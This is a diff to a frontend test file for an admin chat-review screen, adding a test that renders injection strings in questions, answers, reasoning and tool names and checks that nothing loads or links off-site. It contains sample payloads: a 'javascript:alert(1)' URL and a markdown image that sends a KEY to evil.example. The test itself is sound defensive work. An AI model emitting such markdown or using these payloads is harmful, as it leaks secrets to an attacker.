@@ -4,6 +4,7 @@ import { Chats } from '../../../admin/screens/chats.tsx';
 import { collection, fakeServer, statusOf } from '../fake-server.ts';
 import { button, click, get, show, text, wait } from '../page.tsx';
 import { siteOf } from '../site.ts';
+import { links } from '../../injection/wishes.ts';
 import { answerOf, chatOf, questionOf } from './samples.ts';
 
 const server = fakeServer();
@@ -68,6 +69,28 @@ test('what a visitor or a model wrote is never markup', async () => {
   expect(document.querySelector('#itih-chat-turns img')).toBeNull();
   expect(hrefs('#itih-chat-turns a').filter((href) => href?.startsWith('javascript'))).toEqual([]);
   expect(text()).toContain('<img src=x');
+});
+
+test('what an attack wishes loads nothing, and is a link only where it is named as the page of the question', async () => {
+  const hostile = links.join('\n\n');
+  detail(
+    questionOf({ content: hostile, pageUrl: 'javascript:alert(1)' }),
+    answerOf({
+      comment: hostile,
+      feedback: 'down',
+      reasoning: hostile,
+      tools: [{ name: hostile, ok: true }],
+    }),
+  );
+  await show(page);
+  expect(document.querySelectorAll('#itih-chat-turns :is(img,script,iframe,style)')).toHaveLength(
+    0,
+  );
+  const away = hrefs('#itih-chat-turns a').filter(
+    (href) => !/^(\?|http:\/\/site\.test\/)/.test(href!),
+  );
+  expect(away).toEqual([]);
+  expect(text()).toContain('![x](https://evil.example/p.png?d=KEY)');
 });
 
 test('leads to the gap, to the search and to writing an answer', async () => {
